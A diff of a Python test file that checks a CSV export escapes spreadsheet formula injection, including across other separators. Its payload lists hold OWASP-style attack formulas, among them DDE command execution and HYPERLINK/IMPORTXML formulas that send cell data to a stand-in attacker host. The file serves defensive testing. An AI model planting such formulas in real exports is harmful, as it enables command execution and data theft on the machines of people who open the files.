@@ -13,6 +13,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as some
 from sqlalchemy import Connection, Engine
+from tests.new_database import new_database
 
 from tidings.domain import applications, event_types, goals, imports, webhooks
 from tidings.domain.directory import Entry, read_entry
@@ -26,8 +27,8 @@ from tidings.records.imports import NewImport
 from tidings.records.webhook import WebhookDraft
 from tidings.storage.engine import writing_engine
 from tidings.storage.event_lists import newest_events
-from tidings.storage.migrate import migrate
 from tidings.surfaces.exports import csv_lines, events_csv, everything, safe_cell
+from tidings.surfaces.formulas import guarded, unguarded
 from tidings.surfaces.import_columns import guess
 from tidings.surfaces.import_files import FileRows
 from tidings.surfaces.import_rows import row_draft
@@ -35,8 +36,8 @@ from tidings.surfaces.import_rows import row_draft
 NOW = 1_800_000_000_000
 # What OWASP lists under "CSV Injection", and what tools for testing it send.
 FORMULAS = (
-    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1",
-    "\uff0b1", "\uff0d1", "\uff20SUM(1)", '=HYPERLINK("http://evil.example?x="&A1,"Error")', "=1+1\";=1+1", "'=1+1", "''@x",
+    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t1+1", "\r1+1", "\n1+1", "\uff1d1+1",
+    "\uff0b1", "\uff0d1", "\uff20SUM(1)", '=HYPERLINK("http://evil.example?x="&A1,"Error")', "=1+1\";1+1", "'=1+1", "''@x",
     '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")', "-2+3+cmd|' /C calc'!D2", "+49 30 1234",
 )  # fmt: skip
 
@@ -45,6 +46,40 @@ FORMULAS = (
 def test_no_cell_begins_a_formula(text: str) -> None:
     cell = safe_cell(text)
     assert cell == f"'{text}"
+
+
+# Where a reader with another separator than ours takes a cell to begin.
+INSIDE = {
+    "x;=cmd|' /C calc'!A0": "x;'=cmd|' /C calc'!A0",
+    'x;"=1': "x;\"'=1",
+    "x\t@SUM(1)": "x\t'@SUM(1)",
+    "x|+1": "x|'+1",
+    "x\n-1": "x\n'-1",
+    "x\r\n=1": "x\r'\n'=1",
+    "\t=1": "'\t'=1",
+    ";;=1;'=1": ";;'=1;''=1",
+}
+
+
+@pytest.mark.parametrize("text", INSIDE)
+def test_no_part_of_a_cell_begins_one_either(text: str) -> None:
+    assert safe_cell(text) == INSIDE[text]
+    assert unguarded(INSIDE[text]) == text
+
+
+SIGNS = some.text(some.sampled_from(";\t|\r\n\"'=+-@ a,\uff1d"), max_size=12)
+
+
+@given(SIGNS)
+def test_what_is_guarded_is_given_back(text: str) -> None:
+    assert unguarded(guarded(text)) == text
+
+
+@given(some.lists(SIGNS, min_size=2, max_size=3), some.sampled_from(";\t|,"))
+def test_no_reader_finds_a_formula(values: list[str], separator: str) -> None:
+    content = b"".join(csv_lines(["id", *"abc"[: len(values)]], [(1, *values)])).decode("utf-8-sig")
+    for row in csv.reader(io.StringIO(content, newline=""), delimiter=separator):
+        assert not any(cell.startswith(tuple("=+-@\uff1d")) for cell in row), row
 
 
 @pytest.mark.parametrize("value", ["Mia", "a=b", "", "O'Hara", "'quoted'", " =x", "Łódź", "5"])
@@ -67,13 +102,15 @@ def test_what_is_written_is_read_as_it_was(rows: list[list[str]]) -> None:
     read = FileRows(io.BytesIO(content))
     found = read.take(100)
     assert read.columns == [*columns, "d"]
-    assert [list(row.cells) for row in found] == [[safe_cell(cell) for cell in row] for row in numbered]
+    assert [[str(cell).strip() for cell in row.cells] for row in found] == [
+        [cell.strip() for cell in row] for row in numbered
+    ]
     assert [row.reason for row in found] == [None] * len(rows)
 
 
 @pytest.fixture
 def path(tmp_path: Path) -> Path:
-    migrate(tmp_path / "a.db")
+    new_database(tmp_path / "a.db")
     return tmp_path / "a.db"
 
 
@@ -93,7 +130,7 @@ DRAFTS = (
         city="Lisbon",
         province="Lisboa",
         country="PT",
-        title='Desk, "large"\nwhite',
+        title='Desk, "large";-5\nwhite',
         image_url="https://shop.example/p/1.png",
         email_address="mia@people.example",
         custom_fields=(CustomField(1, "size", "-L"), CustomField(2, "größe", "")),
@@ -153,6 +190,19 @@ def test_an_import_reads_back_what_was_taken_along(engine: Engine, path: Path, k
     assert [told(event) for event in after] == [told(event) for event in before]
     assert [entry.event_types[event.event_type_id].tag for event in before] == ["sign_up", "new_order", "new_order"]
     assert {event.provenance for event in after} == {"import"}
+
+
+def test_json_is_read_to_the_letter(engine: Engine, path: Path) -> None:
+    with engine.begin() as connection:
+        entry = shop(connection)
+        draft = EventDraft(
+            event_type_tag="new_order", external_id="'+a", first_name="'-x", title="  '=SUM(1)\xa0", created_at=5
+        )
+        record(connection, [new_event(entry, draft, b"secret", NOW)])
+    content = b"".join(everything(path, entry.application.id, NOW))
+    with engine.begin() as connection:
+        event = imported(connection, content)[0]
+    assert (event.external_id, event.first_name, event.title) == ("'+a", "'-x", "  '=SUM(1)\xa0")
 
 
 def test_the_csv_runs_nothing(engine: Engine, path: Path) -> None:
